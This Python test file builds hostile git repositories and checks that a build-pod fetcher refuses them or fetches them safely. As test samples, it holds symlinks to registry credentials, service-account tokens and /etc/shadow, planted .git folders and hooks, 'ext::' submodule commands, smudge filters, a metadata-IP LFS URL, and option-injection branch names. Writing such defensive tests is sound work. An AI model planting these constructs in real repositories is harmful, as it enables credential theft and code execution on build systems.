"""Repositories that mean harm, fetched for real: nothing of them runs, leaves the tree or is obeyed.

Each is made here as a real repository (objects that git would not write are written by hand) and
fetched over HTTP, as the build pod does it.
"""

from __future__ import annotations

import hashlib
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from goservice.fetch import checkout, main
from goservice.fetch import git as git_module
from tests.support.gitserver import GOOD, Origin, Run, failed, fetching, git, serving

WHO = b"A <a@example.com> 1790000000 +0000"
FILE, PROGRAM, LINK, FOLDER, MODULE = b"100644", b"100755", b"120000", b"40000", b"160000"


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in git_module._PROXIES:
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def origin(tmp_path: Path) -> Iterator[Origin]:
    with serving(tmp_path / "served") as found:
        yield found


@pytest.fixture
def tree(tmp_path: Path) -> Iterator[Path]:
    yield tmp_path / "tree"
    # Some are too deep for pytest's own cleaning, which is Python's.
    subprocess.run(["rm", "-rf", str(tmp_path / "tree")], check=True)


@pytest.fixture
def run(tmp_path: Path, tree: Path) -> Run:
    return fetching(tmp_path / "termination-log", tree)


class Forge:
    """Writes objects that git itself would refuse to write, without a process for each."""

    def __init__(self, origin: Origin) -> None:
        self._origin = origin
        self._objects = origin.work / ".git" / "objects"

    def object(self, kind: str, content: bytes) -> str:
        whole = f"{kind} {len(content)}\0".encode() + content
        name = hashlib.sha1(whole).hexdigest()
        file = self._objects / name[:2] / name[2:]
        if not file.exists():
            file.parent.mkdir(exist_ok=True)
            file.write_bytes(zlib.compress(whole, 1))
        return name

    def blob(self, content: bytes = b"x\n") -> str:
        return self.object("blob", content)

    def tree(self, *entries: tuple[bytes, bytes, str]) -> str:
        """Entries are mode, name and object."""
        content = b"".join(
            mode + b" " + name + b"\0" + bytes.fromhex(found)
            for mode, name, found in sorted(entries, key=lambda e: e[1])
        )
        return self.object("tree", content)

    def commit(self, *entries: tuple[bytes, bytes, str], message: bytes = b"x\n") -> str:
        """A commit of these entries beside a good module."""
        good = [(FILE, name.encode(), self.blob(text.encode())) for name, text in GOOD.items()]
        tree = self.tree(*good, *entries).encode()
        made = self.object(
            "commit", b"tree %s\nauthor %s\ncommitter %s\n\n%s" % (tree, WHO, WHO, message)
        )
        git(self._origin.work, "update-ref", "refs/heads/main", made)
        return made

    def deep(self, levels: int, name: bytes = b"d") -> str:
        """A folder in a folder in a folder …, with a file at the end."""
        made = self.tree((FILE, b"f", self.blob()))
        for _ in range(levels):
            made = self.tree((FOLDER, name, made))
        return made


@dataclass(frozen=True)
class Hostile:
    """A repository, and what becomes of it: a reason, or nothing if it is harmless to fetch."""

    title: str
    make: Callable[[Forge, str], str]
    """Gives the commit; the text is a command that would leave a trace."""
    reason: str = ""
    word: str = ""


def files(**contents: str) -> Callable[[Forge, str], str]:
    """Files in the root; `_` in a name stands for a dot at its beginning, `{harm}` for the command."""

    def make(forge: Forge, harm: str) -> str:
        return forge.commit(
            *(
                (
                    FILE,
                    name.replace("_", ".", 1).encode(),
                    forge.blob(text.replace("{harm}", harm).encode()),
                )
                for name, text in contents.items()
            )
        )

    return make


def submodule(url: str, name: str = "sub", path: str = "sub") -> Callable[[Forge, str], str]:
    def make(forge: Forge, harm: str) -> str:
        text = f'[submodule "{name}"]\n\tpath = {path}\n\turl = {url}\n\tupdate = !{harm}\n'
        modules = forge.blob(text.replace("{harm}", harm).encode())
        return forge.commit((FILE, b".gitmodules", modules), (MODULE, b"sub", "a" * 40))

    return make


def entry(mode: bytes, name: bytes, target: bytes = b"x\n") -> Callable[[Forge, str], str]:
    return lambda forge, _: forge.commit((mode, name, forge.blob(target)))


def folder(name: bytes) -> Callable[[Forge, str], str]:
    """A folder with a configuration and a hook in it."""

    def make(forge: Forge, harm: str) -> str:
        config = forge.blob(f"[core]\n\tfsmonitor = {harm}\n\thooksPath = hooks\n".encode())
        hook = forge.blob(f"#!/bin/sh\n{harm}\n".encode())
        hooks = forge.tree((PROGRAM, b"post-checkout", hook))
        return forge.commit(
            (FOLDER, name, forge.tree((FILE, b"config", config), (FOLDER, b"hooks", hooks)))
        )

    return make


def link_over_folder(forge: Forge, harm: str) -> str:
    """Where names are told apart by case only, the second would be written through the first."""
    hook = forge.blob(f"#!/bin/sh\n{harm}\n".encode())
    return forge.commit(
        (LINK, b"A", forge.blob(b".git/hooks")),
        (FOLDER, b"a", forge.tree((PROGRAM, b"post-checkout", hook))),
    )


def chain(forge: Forge, _: str) -> str:
    """Links that are harmless one by one and leave together."""
    inner = forge.tree((LINK, b"up", forge.blob(b"..")), (FILE, b"f", forge.blob()))
    return forge.commit(
        (FOLDER, b"a", inner),
        (LINK, b"one", forge.blob(b"a/up")),
        (LINK, b"two", forge.blob(b"one/..")),
        (LINK, b"three", forge.blob(b"two/etc/passwd")),
    )


def nested_modules(forge: Forge, _: str) -> str:
    text = b"module evil\n\ngo 1.26\n\nreplace evil => ../../../..\n"
    inner = forge.tree((FILE, b"go.mod", forge.blob(text)))
    return forge.commit((FOLDER, b"\x1b[31mevil\n", inner))


UNSAFE = "UnsafeSource"
REPOSITORIES = [
    Hostile("a link to the registry's password", entry(LINK, b"x", b"/kaniko/.docker/config.json"), UNSAFE, "/kaniko/.docker"),
    Hostile("a link to a process's environment", entry(LINK, b"x", b"/proc/1/environ"), UNSAFE, "/proc/1"),
    Hostile("a link to a token", entry(LINK, b"x", b"/var/run/secrets/kubernetes.io/serviceaccount/token"), UNSAFE, "outside"),
    Hostile("a link out of the tree", entry(LINK, b"x", b"../x"), UNSAFE, "outside"),
    Hostile("a link with many ways up", entry(LINK, b"x", b"./././../../../../../etc/passwd"), UNSAFE, "outside"),
    Hostile("go.mod's neighbour as a link out", entry(LINK, b"go.sum", b"/etc/shadow"), UNSAFE, "go.sum"),
    Hostile("a .dockerignore as a link out", entry(LINK, b".dockerignore", b"/etc/passwd"), UNSAFE, ".dockerignore"),
    Hostile("a chain of links that leaves at its end", chain, UNSAFE, "outside"),
    Hostile("a link whose name and target colour the terminal", entry(LINK, b"\x1b]0;x\x07\n", b"/\x1b[2J"), UNSAFE, "outside"),
    Hostile("a link over a folder of the same letters", link_over_folder),
    Hostile("a folder .git", folder(b".git"), UNSAFE, "git fsck"),
    Hostile("a folder .GIT", folder(b".GIT"), UNSAFE, "git fsck"),
    Hostile("a folder git~1", folder(b"git~1"), UNSAFE, "git fsck"),
    Hostile("a folder .git with a sign that is not seen", folder(".g\u200cit".encode()), UNSAFE, "git fsck"),
    Hostile("a folder ..", folder(b".."), UNSAFE, "git fsck"),
    Hostile("a file with a slash in its name", entry(FILE, b"../../evil"), UNSAFE, "git fsck"),
    Hostile("an absolute file name", entry(FILE, b"/etc/evil"), UNSAFE, "git fsck"),
    Hostile(".gitmodules as a link", entry(LINK, b".gitmodules", b"go.mod"), UNSAFE, "git fsck"),
    Hostile("a submodule of a command", submodule("ext::{harm}"), UNSAFE, "git fsck"),
    Hostile("a submodule of an option", submodule("-u./evil"), UNSAFE, "git fsck"),
    Hostile("a submodule that leaves git's folder", submodule("https://example.com/x", name="../../evil"), UNSAFE, "git fsck"),
    Hostile("a submodule of this machine's files", submodule("file:///etc"), UNSAFE, "git fsck"),
    Hostile("hooks of the repository's own", folder(b"hooks")),
    Hostile("a .githooks folder", folder(b".githooks")),
    Hostile("a configuration that includes more", files(_gitconfig="[include]\n\tpath = /etc/passwd\n[core]\n\tsshCommand = {harm}\n[alias]\n\tlog = !{harm}\n", config="[core]\n\tfsmonitor = {harm}\n")),
    Hostile("filters", files(_gitattributes="* filter=evil diff=evil merge=evil textconv=evil\n", _gitconfig='[filter "evil"]\n\tsmudge = {harm}\n\tprocess = {harm}\n\trequired\n')),
    Hostile("an .lfsconfig", files(_gitattributes="*.bin filter=lfs\n", _lfsconfig="[lfs]\n\turl = http://169.254.169.254/\n")),
    Hostile("a Dockerfile and a .dockerignore of its own", files(Dockerfile="# syntax=evil.example.com/x\nFROM evil\nRUN {harm}\n", _dockerignore="*\n!evil\n")),
    Hostile("a toolchain and a workspace of its own", files(**{"go.work": "go 1.26\ntoolchain evil\nuse ../../..\n"})),
    Hostile("a module that leads out, in a folder with a line end", nested_modules),
    Hostile("a file name of 255 bytes", entry(FILE, b"n" * 255)),
    Hostile("a file name of 256 bytes", entry(FILE, b"n" * 256), UNSAFE, "file name"),
    Hostile("a file name of two lines", entry(FILE, b"a\nb\x1b[31m.go", b"package main\n")),
    Hostile("folders that no path can name", lambda forge, _: forge.commit((FOLDER, b"d", forge.deep(700, b"ddddd"))), UNSAFE, "too long"),
    Hostile("folders deeper than Python's stack", lambda forge, _: forge.commit((FOLDER, b"d", forge.deep(1100))), UNSAFE, "200 folders deep"),
    Hostile("folders as deep as they may be", lambda forge, _: forge.commit((FOLDER, b"d", forge.deep(199)))),
    Hostile("a message that gives orders", lambda forge, _: forge.commit(message=b"\x1b[2J\x1b]52;c;{{7*7}}\x07 ${IFS}\n")),
]  # fmt: skip


@pytest.mark.parametrize("hostile", REPOSITORIES, ids=lambda hostile: hostile.title)
def test_a_hostile_repository_is_refused_or_harmless(
    hostile: Hostile, origin: Origin, run: Run, tree: Path, tmp_path: Path
) -> None:
    trace = tmp_path / "ran"
    commit = hostile.make(Forge(origin), f"touch {trace}")
    before = {path.name for path in tmp_path.iterdir()}
    outcome = run(origin.url, commit)
    if hostile.reason:
        failed(outcome, hostile.reason, hostile.word)
    else:
        assert outcome[0] == 0, outcome
        assert not (tree / ".git").exists()
    assert not trace.exists()
    assert {path.name for path in tmp_path.iterdir()} - before <= {"tree", "termination-log"}
    assert {path.split("/")[1] for path, _ in origin.seen} == {"a.git"}
    assert not [headers for _, headers in origin.seen if "authorization" in headers]


def test_there_are_many() -> None:
    assert len({hostile.title for hostile in REPOSITORIES}) == len(REPOSITORIES) >= 25


def test_a_tree_that_is_endless_is_ended(origin: Origin, tree: Path) -> None:
    """Ten folders, each ten times in the one above: few objects, 10 000 000 000 files."""
    forge = Forge(origin)
    made = forge.tree((FILE, b"f", forge.blob()))
    for _ in range(10):
        made = forge.tree(*((FOLDER, b"%d" % n, made) for n in range(10)))
    wanted = checkout.Checkout(origin.url, forge.commit((FOLDER, b"d", made)), "", ".", ".", "")
    with pytest.raises(checkout.Refused, match="too large") as refused:
        main.fetch(wanted, git_module.WorkTree(tree, deadline_seconds=1), print)
    assert refused.value.reason == "GitUnavailable"


def test_very_many_files_are_only_files(origin: Origin, run: Run, tree: Path) -> None:
    forge = Forge(origin)
    many = forge.tree(*((FILE, b"%05d" % n, forge.blob()) for n in range(5000)))
    assert run(origin.url, forge.commit((FOLDER, b"d", many)))[0] == 0
    assert len(list((tree / "d").iterdir())) == 5000


@pytest.mark.parametrize("server", ["", "v0/"])
@pytest.mark.parametrize(
    "name",
    ["--upload-pack=ran", "-oProxyCommand=ran", "--output=ran", "-", "a;touch${IFS}ran"],
)
def test_a_branch_that_looks_like_an_option_is_a_name(
    name: str, server: str, origin: Origin, run: Run, tree: Path
) -> None:
    """The server has such a branch, and an older commit makes `fetch` ask for all of them."""
    forge = Forge(origin)
    older = forge.commit()
    packed = origin.work / ".git" / "packed-refs"
    packed.write_text(f"{older} refs/heads/{name}\n")
    forge.commit((FILE, b"newer", forge.blob()))
    code, report = run(f"{origin.address}/{server}a.git", older, revision=older)
    assert code == 0, report
    if name.startswith("-"):
        outcome = run(origin.url, older, revision=name, into=f"{tree}2")
        failed(outcome, "RevisionNotFound", "spec.source.git.revision")
    assert not list(tree.parent.rglob("ran"))


def test_a_restarted_pod_that_finds_folders_too_deep_to_remove_says_so(
    origin: Origin, run: Run, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    forge = Forge(origin)
    commit = forge.commit((FOLDER, b"d", forge.deep(1100)))
    failed(run(origin.url, commit), UNSAFE, "200 folders deep")
    monkeypatch.setattr(Path, "is_mount", lambda path: path == tree)
    # Python 3.13 removes them; then the commit is looked at again.
    newer = sys.version_info >= (3, 13)
    reason, word = (UNSAFE, "folders deep") if newer else ("GitUnavailable", "to be removed")
    failed(run(origin.url, commit), reason, word)


def test_what_git_fsck_only_warns_of_is_taken(origin: Origin, run: Run, tree: Path) -> None:
    """Trees of old tools have zeros before a folder's mode."""
    forge = Forge(origin)
    inner = forge.tree((FILE, b"f", forge.blob()))
    code, report = run(origin.url, forge.commit((b"040000", b"d", inner)))
    assert code == 0, report
    assert (tree / "d" / "f").read_text() == "x\n"
